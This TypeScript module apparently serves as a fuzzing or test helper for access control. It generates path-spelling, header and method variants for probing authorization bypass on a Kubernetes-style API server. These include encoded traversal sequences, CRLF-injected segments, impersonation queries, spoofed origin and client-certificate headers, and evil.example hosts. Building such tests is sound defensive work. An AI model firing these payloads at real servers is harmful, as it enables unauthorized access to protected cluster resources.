// Path tricks: spellings of a path that a server may authorize as one path and serve as another.

/** Spellings of a slash. */
const slashes = [
  '%2f',
  '%2F',
  '%252f',
  '%c0%af',
  '%e0%80%af',
  '%5c',
  '\\',
  '%ef%bc%8f',
  '//',
  '/./',
  '/%2e/',
  '/;/',
  '/%00/',
  '/%20/',
];
/** Spellings of a step up. */
const stepsUp = [
  '..',
  '%2e%2e',
  '%2E%2e',
  '.%2e',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '%ef%bc%8e%ef%bc%8e',
  '..;',
  '..%00',
  '..%20',
  '...',
  '..%5c',
  '..\\',
  '%2e%2e%2f',
  '..%2f',
];
const suffixes = [
  '/',
  '//',
  '/.',
  '/..',
  '/../',
  '.',
  '..',
  '%00',
  '%00.json',
  '.json',
  '.css',
  ';',
  ';.css',
  ';jsessionid=1',
  '?',
  '??',
  '?x',
  '#',
  '#x',
  '%23',
  '%3f',
  '%3fwatch=1',
  '&',
  '%20',
  '%09',
  '%0a',
  '%0d%0a',
  '~',
  '*',
  '%2a',
  '/%2e',
  '/%2e%2e',
  '/*',
  '%ff',
  '%zz',
  '%',
  '\\',
  "'",
  '"',
  '|',
  '{}',
  '/status',
  '/finalize',
  '/proxy',
  '/log',
  '/..;/',
  '%c0%80',
  '%e2%80%8b',
  '/%EF%BB%BF',
];
const queries = [
  'pretty=1',
  'watch=1&timeoutSeconds=1',
  'fieldSelector=metadata.name%3Dhidden',
  'namespace=attack-closed',
  'resourceVersion=0',
  'limit=1',
  'labelSelector=',
  'as=admin',
  'impersonate-user=admin',
  'access_token=admin-token',
  'watch=%zz',
  'dryRun=All',
  'path=/metrics',
  'method=GET',
  '_method=GET',
  '/../../metrics',
  '%00',
  ';',
];

/** Paths that everybody may read, from which a step up leads elsewhere. */
const openPaths = [
  '/healthz',
  '/livez',
  '/readyz',
  '/version',
  '/api',
  '/apis',
  '/openapi/v2',
  '/openapi/v3',
  '/api/v1',
  '/apis/apps/v1',
  '/.well-known/openid-configuration',
];

/** Every spelling of a protected path; `from` is a path that the client may read. */
export function spellings(path: string, from: string): string[] {
  const tricked = [
    path,
    ...atEachSlash(path),
    ...atEachSegment(path),
    ...suffixes.map((suffix) => path + suffix),
  ];
  for (const query of queries) tricked.push(`${path}?${query}`);
  for (const start of [from, ...openPaths]) {
    for (const up of stepsUp) tricked.push(stepping(start, up) + path);
  }
  for (const slash of slashes)
    tricked.push(path.slice(1).replaceAll('/', slash), path.replaceAll('/', slash));
  tricked.push(...absoluteForms(path), ...mounted(path));
  return [...new Set(tricked)];
}

/** As many steps up as the path has segments. */
const stepping = (start: string, up: string) => start + `/${up}`.repeat(start.split('/').length - 1);

function atEachSlash(path: string): string[] {
  return [...path.matchAll(/\//g)].flatMap(({ index }) =>
    slashes.map((slash) => path.slice(0, index) + slash + path.slice(index + 1)),
  );
}

function atEachSegment(path: string): string[] {
  const segments = path.split('/');
  return segments.flatMap((segment, index) =>
    index === 0 ? [] : segmentSpellings(segment).map((each) => segments.with(index, each).join('/')),
  );
}

/** One segment in other characters, or between segments that cancel each other. */
function segmentSpellings(segment: string): string[] {
  const first = segment.charCodeAt(0).toString(16);
  const rest = segment.slice(1);
  return [
    segment.toUpperCase(),
    segment[0]!.toUpperCase() + rest,
    `%${first}${rest}`,
    `%25${first}${rest}`,
    `%u00${first}${rest}`,
    `%00${segment}`,
    `${segment}%00`,
    `${segment}%20`,
    `%20${segment}`,
    `${segment};x=y`,
    `${segment}.`,
    `.${segment}`,
    `x/../${segment}`,
    `x/%2e%2e/${segment}`,
    `${segment}/.`,
    `${segment}/x/..`,
    segment.replace('s', 'ſ'),
    segment.replace('s', '%c5%bf'),
    segment.replace('k', '%e2%84%aa'),
    `${segment}%e2%80%8b`,
    `${segment}%0d%0aX:y`,
    '*',
    '%2a',
    '',
    '__proto__',
  ];
}

/** Request targets with a scheme and a host. */
function absoluteForms(path: string): string[] {
  const starts = [
    'http://localhost',
    'https://localhost',
    'http://evil.example',
    'http://evil.example:1',
    '//evil.example',
    'http://',
    'http:',
    'https:/',
    'file://',
    'http://admin@localhost',
    'http://localhost/..',
    'http://localhost/version/..',
    'http://localhost/version?x=',
    'http://localhost/version#',
    'http://[::1]',
    'javascript:',
    'unix:',
  ];
  return starts.map((start) => start + path);
}

/** The path behind one that serves others: proxies, the deprecated watch paths, an empty group. */
function mounted(path: string): string[] {
  const behindVersion = path.replace(/^\/api\/v1/, '');
  const mounts = [
    '/apis',
    '/apis/',
    '/apis//v1',
    '/api/v1/watch',
    '/api/v1/proxy',
    '/api//v1',
    '/proxy',
    '/watch',
    '/static',
    '/ui',
    '/apis/apps/v1',
    '/apis/v1',
    '/api/v1beta1',
    '/api/V1',
    '/logs',
    '/debug',
  ];
  return mounts.flatMap((mount) => [mount + path, mount + behindVersion]);
}

const overrides = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', '_method'];
const rewrites = [
  'X-Original-URL',
  'X-Rewrite-URL',
  'X-Forwarded-Prefix',
  'X-Forwarded-Path',
  'X-Original-URI',
  'X-Envoy-Original-Path',
  'X-Custom-URL',
  'Referer',
  'Destination',
  'Content-Location',
];
const origins = [
  'X-Forwarded-For',
  'X-Real-IP',
  'X-Client-IP',
  'Forwarded',
  'X-Forwarded-Host',
  'X-Host',
  'True-Client-IP',
  'X-Forwarded-Proto',
  'X-Forwarded-Client-Cert',
  'X-SSL-Client-S-DN',
  'Via',
  'Cookie',
  'Proxy-Authorization',
];
const hosts = [
  'localhost',
  '127.0.0.1',
  'kubernetes.default.svc',
  'evil.example',
  'evil.example:99999',
  '[::1]',
  'admin@localhost',
  'localhost/metrics',
  '',
  ' ',
  '*',
  'a b',
  '..',
  '%2e%2e',
  'x'.repeat(300),
];

/** Headers by which proxies and frameworks change the path, the method or the origin of a request. */
export function headerTricks(path: string): Record<string, string>[] {
  return [
    ...overrides.flatMap((name) => ['GET', 'get', 'DELETE', 'CONNECT'].map((value) => ({ [name]: value }))),
    ...rewrites.flatMap((name) => [{ [name]: path }, { [name]: `https://localhost${path}` }]),
    ...origins.flatMap((name) =>
      ['127.0.0.1', 'localhost', 'for=127.0.0.1;proto=https', 'CN=admin,O=system:masters'].map((value) => ({
        [name]: value,
      })),
    ),
    ...hosts.map((host) => ({ host })),
  ];
}

/** Methods that are no verb of the API, and spellings of those that are. */
export const unusualMethods = [
  'HEAD',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'PROPPATCH',
  'MKCOL',
  'COPY',
  'MOVE',
  'LOCK',
  'PURGE',
  'SEARCH',
  'QUERY',
  'LINK',
  'REPORT',
  'BREW',
  'PRI',
  'get',
  'Get',
  'gET',
  'GETT',
  'G',
  'GET,POST',
  '__proto__',
  'constructor',
  'LIST',
  'WATCH',
  'DELETECOLLECTION',
  'IMPERSONATE',
  'X'.repeat(1000),
];
export const writeMethods = ['POST', 'PUT', 'PATCH', 'DELETE'];
